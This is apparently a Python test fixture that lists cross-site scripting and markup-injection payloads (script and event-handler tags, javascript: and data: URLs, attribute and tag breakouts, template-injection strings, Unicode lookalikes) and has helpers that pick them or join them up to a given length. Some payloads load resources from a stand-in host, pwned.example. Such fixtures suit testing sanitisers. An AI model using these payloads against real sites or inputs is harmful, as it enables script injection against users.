"""What people write who want their text to be markup. Each would call `pwned` if it got its way."""

from __future__ import annotations

from typing import Final

ELEMENTS: Final = [
    "<script>pwned()</script>", "<ScRiPt\t>pwned()</sCrIpT >", "<script/src=//pwned.example></script>",
    "<img src=x onerror=pwned()>", "<IMG SRC=x:x OnErRoR\n=pwned()>", "<img/src=`x`onerror=pwned()>",
    "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<svg><a xlink:href='javascript:pwned()'><text>x</text></a>", "<svg><style><img src=x onerror=pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", "<math href=javascript:pwned()>x",
    "<iframe srcdoc='<script>pwned()</script>'>", "<iframe src=javascript:pwned()>",
    "<object data=//pwned.example>", "<embed src=javascript:pwned()>", "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content=0;url=//pwned>", "<link rel=stylesheet href=//pwned.example>",
    "<style>@import '//pwned.example'</style>", "<form action=javascript:pwned()><button>",
    "<button formaction=javascript:pwned()>x", "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>", "<video><source onerror=pwned()>", "<body onload=pwned()>",
    "<marquee onstart=pwned()>", "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<b onmouseover=pwned()>",
    "<x-pwned onclick=pwned()>", "<a href='javascript:pwned()'>x</a>", "<<script>pwned()//<</script>",
]  # fmt: skip
WAYS_OUT: Final = [
    '"><img src=x onerror=pwned()>', "'><img src=x onerror=pwned()>", '" autofocus onfocus="pwned()',
    "' onclick='pwned()", "` onclick=`pwned()", '" style="background:url(//pwned.example)',
    "</title><script>pwned()</script>", "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>", "</ScRiPt\n><img src=x onerror=pwned()>",
    "</style><script>pwned()</script>", "</noscript><script>pwned()</script>",
    "</select><img src=x onerror=pwned()>", "<!--<script>pwned()", "--><script>pwned()</script>",
    "--!><img src=x onerror=pwned()>", "]]><script>pwned()</script>", '\\"; pwned(); //', "\\'-pwned()-\\'",
    "';pwned();'", "${pwned()}", "{{ 7*7 }}{{ pwned }}", "{% raw %}{{ config }}<b pwned>",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#x3c;img src=x onerror=pwned()&#x3e;",
    "%3Cscript%3Epwned()%3C/script%3E",
]  # fmt: skip
LETTERS: Final = [
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e", "\u202e<script>pwned()</script>",
    "<\u0131mg src=x onerror=pwned()>", "\u2039img src=x onerror=pwned()\u203a",
    "<\u200bscript>pwned()</script>", "\u02baonclick=pwned()\u02ba", "\ufeff<script>pwned()</script>",
    "<\u017fcript>pwned()</\u017fcript>", "<svg\u2003onload=pwned()>",
]  # fmt: skip
ADDRESSES: Final = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\tscript:pwned()",
    "java\nscript:pwned()", "\x01javascript:pwned()", "javascript\n:pwned()", "\xa0javascript:pwned()",
    "javascript://x.example/%0apwned()", "javascript:pwned()//x.mp4", "https:javascript:pwned()",
    "data:text/html,<script>pwned()</script>", "data:text/html;base64,cHduZWQ=",
    "DATA:image/svg+xml,<svg onload=pwned()>", "vbscript:pwned()", "blob:pwned",
    "view-source:javascript:pwned()", "feed:javascript:pwned()", "javascript&colon;pwned()",
    "&#106;avascript:pwned()", 'https://x.example/"onmouseover="pwned()',
    "https://x.example/'onmouseover='pwned()", "//pwned.example/x.mp4", "/\\pwned.example",
    'https://www.youtube.com/watch?v="onload=pwned()', 'https://vimeo.com/1"><svg onload=pwned()>',
    'https://x.example/a.mp4#"><script>pwned()</script>',
    "https://youtu.be/</script><script>pwned()</script>", "\uff4aavascript:pwned()",
]  # fmt: skip
PAYLOADS: Final = [*ELEMENTS, *WAYS_OUT, *LETTERS, *ADDRESSES]


def one(number: int) -> str:
    """The payload of this number; they begin again after the last."""
    return PAYLOADS[number % len(PAYLOADS)]


def some(number: int, length: int) -> str:
    """As many payloads, from this number on, as go into `length`; at least one."""
    text = one(number)
    for further in range(number + 1, number + len(PAYLOADS)):
        if len(text) + 1 + len(one(further)) > length:
            break
        text += f" {one(further)}"
    return text
